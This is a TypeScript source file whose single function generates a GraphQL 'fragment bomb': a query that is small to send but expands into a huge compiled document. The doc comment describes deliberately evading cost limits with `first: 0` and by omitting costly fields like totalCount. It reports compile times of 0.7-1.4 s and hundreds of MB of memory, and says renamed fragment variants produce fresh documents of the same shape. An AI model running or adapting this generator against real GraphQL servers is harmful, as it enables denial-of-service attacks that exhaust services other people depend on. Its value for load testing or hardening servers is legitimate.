import { getNamedType, GraphQLField, GraphQLNamedType, GraphQLSchema, isLeafType, isObjectType } from 'graphql';
import { requiredArgs } from './schema-walk';

/**
 * A document that is small to send but large once its fragments are expanded: one fragment
 * per object type and depth, every field of the type, each object field spreading the next
 * depth's fragment, connections asked with `first: 0` so the cost estimate stays low. No alias.
 * graphql-jit inlines every spread: compiling one of these took 0.7-1.4 s and hundreds of MB.
 * `variant` renames the fragments, making a new document of the same shape; `without` leaves
 * fields out (`totalCount`, costed high, to stay within the cost limit).
 */
export function compileBomb(schema: GraphQLSchema, options: { levels?: number; variant?: number; roots?: number; without?: string[] } = {}): string {
  const levels = options.levels ?? 5;
  const variant = options.variant ?? 0;
  const fragments = new Map<string, string>();
  const nameOf = (type: GraphQLNamedType, level: number) => `${type.name}_${level}_${variant}`;

  const fragmentOf = (type: GraphQLNamedType, level: number): string => {
    const name = nameOf(type, level);
    if (fragments.has(name) || !isObjectType(type)) return name;
    fragments.set(name, '');
    const parts: string[] = ['__typename'];
    for (const field of Object.values(type.getFields()) as GraphQLField<unknown, unknown>[]) {
      if (requiredArgs(field).length || options.without?.includes(field.name)) continue;
      const named = getNamedType(field.type);
      if (isLeafType(named)) parts.push(field.name);
      else if (isObjectType(named) && level < levels) {
        const args = field.args.some((a) => a.name === 'first') ? '(first: 0)' : '';
        parts.push(`${field.name}${args} { ...${fragmentOf(named, level + 1)} }`);
      }
    }
    fragments.set(name, `fragment ${name} on ${type.name} { ${parts.join(' ')} }`);
    return name;
  };

  const roots: string[] = [];
  for (const field of Object.values(schema.getQueryType()!.getFields()) as GraphQLField<unknown, unknown>[]) {
    if (roots.length >= (options.roots ?? Infinity) || requiredArgs(field).length) continue;
    const named = getNamedType(field.type);
    if (!isObjectType(named)) continue;
    const args = field.args.some((a) => a.name === 'first') ? '(first: 0)' : '';
    roots.push(`${field.name}${args} { ...${fragmentOf(named, 1)} }`);
  }
  return `query Bomb${variant} { ${roots.join(' ')} }\n${[...fragments.values()].join('\n')}`;
}
